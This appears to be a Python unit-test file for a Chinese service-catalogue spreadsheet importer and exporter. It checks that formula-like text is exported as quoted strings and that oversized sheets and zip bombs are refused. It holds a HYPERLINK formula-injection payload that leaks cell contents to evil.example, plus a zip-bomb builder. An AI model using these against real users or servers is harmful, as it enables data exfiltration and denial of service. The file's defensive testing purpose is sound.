"""What the 服务事项清单 spreadsheet refuses to be: a carrier of formulas out, and a bomb in."""

from __future__ import annotations

import io
import time
import zipfile
from typing import Any
from xml.sax.saxutils import escape

import pytest
from openpyxl import load_workbook

from services.catalogue.application import CatalogueApplication
from services.catalogue.sheet_import import MAX_ROWS, parse_workbook
from services.catalogue.spreadsheet import CellError, export_workbook
from tests.unit.catalogue.conftest import GZC_EDITOR, publish_gongfang
from tests.unit.catalogue.test_spreadsheet import content, new_app

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看办事指南")'


def test_an_editors_text_that_starts_like_a_formula_is_exported_as_text_and_read_back_the_same(
    app: CatalogueApplication,
) -> None:
    # Given 国资处 publishes an item whose texts start like formulas, an error code and a sum
    publish_gongfang(
        app,
        description=HYPERLINK,
        current_state="+86 0571 8888 8888 值班电话",
        notes=["-1 楼不在改造范围", "@SUM(A1:A9)", "#N/A"],
        one_trip_note="=1+1",
    )

    # When the catalogue is exported and opened as a spreadsheet program would
    exported = export_workbook(app.published_items("gzc"), "gzc")
    sheet = load_workbook(io.BytesIO(exported))["国资处"]

    # Then every text cell is a string cell, none a formula or an error, and those that start
    # like a formula carry the quote prefix
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} == {"s"}
    starts = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in starts} >= {HYPERLINK, "=1+1", "+86 0571 8888 8888 值班电话"}
    assert all(cell.quotePrefix for cell in starts)

    # And imported back, the item has exactly the texts the editor wrote
    other = new_app()
    result = other.import_drafts(GZC_EDITOR, parse_workbook(exported))
    assert result["errors"] == []
    draft = other.get_item(result["created"][0], viewer=GZC_EDITOR)
    assert content(draft) == content(app.get_item(result["created"][0]))
    assert draft["description"] == HYPERLINK and "@SUM(A1:A9)" in draft["notes"]


def workbook_with_sheet(sheet_xml: str) -> bytes:
    """An exported workbook whose only sheet is replaced by ``sheet_xml``."""
    original = zipfile.ZipFile(io.BytesIO(export_workbook([])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in original.infolist():
            data = original.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode()
            archive.writestr(member.filename, data)
    return buffer.getvalue()


def inline_row(number: int, values: list[Any]) -> str:
    cells = "".join(
        f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'
        for index, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def many_rows_sheet(rows: int) -> str:
    """A header, then ``rows`` rows of distinct items, then XML that no parser can read: a row
    past the cap that was parsed would fail the import with a broken-file error."""
    header = ["事项名称", "事项说明", "流程"]
    body = [inline_row(1, header)]
    for n in range(2, rows + 2):
        flow = f"国资处审批 | 全阶段重审 | 国资处:{n % 9 + 1}"
        body.append(inline_row(n, [f"公房调配申请{n}", f"第{n * 7919 % 100003}号说明", flow]))
    body.append('<row r="999999"><c r="A999999" t="inlineStr"><is><t>broken')
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:C{rows + 1}"/><sheetData>' + "".join(body)
    )


def test_a_sheet_of_fifty_thousand_rows_stops_at_the_cap_before_any_row_is_parsed() -> None:
    # Given a sheet of 50,000 distinct rows (a few hundred KB packed) ending in broken XML
    sheet = workbook_with_sheet(many_rows_sheet(50_000))
    assert len(sheet) < 2 * 1024 * 1024

    # When it is imported
    started = time.monotonic()
    with pytest.raises(CellError) as refused:
        parse_workbook(sheet)

    # Then it is refused for its size, in Chinese, without reading to its broken end,
    # and (loosely, for a loaded machine) fast
    assert f"一次最多导入 {MAX_ROWS} 行" in str(refused.value)
    assert time.monotonic() - started < 20


def test_a_sheet_at_the_cap_is_imported_row_by_row() -> None:
    # Given a sheet of exactly 2,000 rows (and its closing tags)
    sheet_xml = many_rows_sheet(MAX_ROWS).rsplit("<row r=\"999999\"", 1)[0]
    sheet = workbook_with_sheet(sheet_xml + "</sheetData></worksheet>")
    # When it is imported
    rows = parse_workbook(sheet)
    # Then every row is parsed
    assert len(rows) == MAX_ROWS and rows[-1].row == MAX_ROWS + 1


def zip_bomb(member_bytes: int) -> bytes:
    """An exported workbook whose sheet unpacks to ``member_bytes`` of blanks."""
    original = zipfile.ZipFile(io.BytesIO(export_workbook([])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member in original.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                with archive.open(member.filename, "w", force_zip64=True) as sheet:
                    sheet.write(b'<?xml version="1.0"?><worksheet><sheetData>')
                    blank = b" " * (1024 * 1024)
                    for _ in range(member_bytes // len(blank)):
                        sheet.write(blank)
            else:
                archive.writestr(member.filename, original.read(member.filename))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("unpacked_mb", "said"), [(40, "解压后约 40 MB，超过上限 30 MB"), (8, "压缩比超过 100 倍")]
)
def test_a_zip_bomb_is_refused_from_the_archive_directory_before_openpyxl_opens_it(
    unpacked_mb: int, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a workbook a few KB packed whose sheet unpacks to megabytes of blanks
    bomb = zip_bomb(unpacked_mb * 1024 * 1024)
    assert len(bomb) < 200 * 1024

    # When it is imported, openpyxl made to fail the test if it is ever asked to open it
    def never(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the bomb reached openpyxl")

    monkeypatch.setattr("services.catalogue.sheet_import.load_workbook", never)
    with pytest.raises(CellError) as refused:
        parse_workbook(bomb)

    # Then it is refused, saying why in Chinese
    assert said in str(refused.value)
